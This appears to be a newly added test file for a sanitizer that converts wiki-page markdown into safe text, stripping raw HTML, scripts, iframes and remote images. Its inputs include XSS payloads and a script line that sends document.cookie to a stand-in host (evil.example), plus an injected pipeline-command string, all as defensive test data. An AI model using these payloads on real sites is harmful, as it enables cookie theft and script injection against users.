@@ -1,0 +1,82 @@
+"""A wiki page's markdown is someone else's: its own syntax said in words, no raw HTML, nothing loaded from afar."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from doc_context.text.codespans import fence_open_at_end
+from doc_context.text.neutralize import neutralize
+from doc_context.text.wikimd import MAX_CHARS, wiki_to_markdown
+
+
+def md(text: str) -> str:
+    return wiki_to_markdown(text).text
+
+
+@pytest.mark.parametrize(
+    ("page", "expected"),
+    [
+        ("[[_TOC_]]\n\nIntro.", "Intro."),
+        ("Intro.\n\n[[_TOSP_]]", "Intro."),
+        ("A\n\n::: mermaid\ngraph LR\n  A-->B\n:::\n\nB", "A\n\n_(a Mermaid diagram is on the page)_\n\nB"),
+        ("A\n:::mermaid\nsequenceDiagram\n:::", "A\n_(a Mermaid diagram is on the page)_"),
+        ("::: video\n<iframe src='https://www.youtube.com/embed/x'></iframe>\n:::", "_(a video is on the page)_"),
+        ("::: query-table 6ff7777e-8ca5-4f04-a7f6-9e63737dddf7\n:::", "_(a table of query results is on the page)_"),
+        ("::: mermaid\ngraph LR\nA-->B", "_(a Mermaid diagram is on the page)_"),  # never closed: to the end
+        ("![Flow](/.attachments/flow-3f2a.png)", "(image: Flow)"),
+        ("![](.attachments/x.png)", "(image)"),
+        ("![Chart](https://evil.example/track.png)", "[image: Chart](https://evil.example/track.png)"),
+        ("See [the sheet](/.attachments/sheet.xlsx).", "See the sheet (attachment)."),
+        ("See [Other page](/Payments/Other-page).", "See Other page."),
+        (
+            "See [docs](https://docs.example/a) and [top](#steps).",
+            "See [docs](https://docs.example/a) and [top](#steps).",
+        ),
+        ('Logo <img src="https://evil.example/t.png" alt="Fabrikam"> here', "Logo (image: Fabrikam) here"),
+        ("<img src=x onerror=alert(1)>Text", "Text"),
+        ("Before<script>alert('x')</script>After", "BeforeAfter"),
+        ("A<style>p{color:red}</style>B<!-- hidden\ncomment -->C", "ABC"),
+        ("<div><b>Bold</b> and <span style='color:red'>red</span></div>", "Bold and red"),
+        ('<a href="https://docs.example/x">the docs</a>', "[the docs](https://docs.example/x)"),
+        ('<a href="javascript:alert(1)">click</a>', "click"),
+        ("<iframe src='https://evil.example'></iframe>Rest", "Rest"),
+        ("---\ntitle: Split tender\ntags:\n- payments\n---\n# Split tender\n\nText", "# Split tender\n\nText"),
+        ("```python\nx = '<script>'\n```", "```python\nx = '<script>'\n```"),  # code stays as written
+        ("Intro\n\n```\nnever closed <b>", "Intro\n\n```\nnever closed <b>\n```"),
+        ("~~~~\ncode\n~~~", "~~~~\ncode\n~~~\n~~~~"),
+    ],
+)
+def test_wiki_syntax_and_html_are_read_safely(page: str, expected: str) -> None:
+    assert md(page) == expected
+
+
+def test_a_page_past_the_limit_is_read_to_a_line_end_and_says_so() -> None:
+    line = "Rounding happens once, on the order total. " * 4 + "\n"
+    page = line * (MAX_CHARS // len(line) + 10)
+    got = wiki_to_markdown(page)
+    assert got.cut and len(got.text) <= MAX_CHARS and got.text.rstrip().endswith("total.")
+    assert not wiki_to_markdown(line * 3).cut
+
+
+def test_hostile_markdown_leaves_nothing_live_after_neutralize() -> None:
+    page = (
+        "<img src='https://evil.example/pixel.gif'>\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n"
+        "![x](https://evil.example/x.png) @<6f1c2d0e-0000-0000-0000-000000000001> ##vso[task.setvariable variable=a]b\n"
+        "```\nunclosed fence swallowing the rest"
+    )
+    shown = neutralize(md(page))
+    assert "<img" not in shown and "<script" not in shown and "![" not in shown
+    assert "@<" not in shown and "##vso[" not in shown
+    assert fence_open_at_end(shown) is None
+
+
+@given(st.text(max_size=2000))
+def test_any_page_converts_with_no_fence_left_open_and_no_tag_left(text: str) -> None:
+    out = md(text)
+    assert fence_open_at_end(neutralize(out)) is None
+    outside_code = re.sub(r"(?ms)^\s{0,3}(`{3,}|~{3,}).*?^\s{0,3}\1", "", out)
+    assert not re.search(r"<(script|iframe|style)\b", outside_code, re.I)
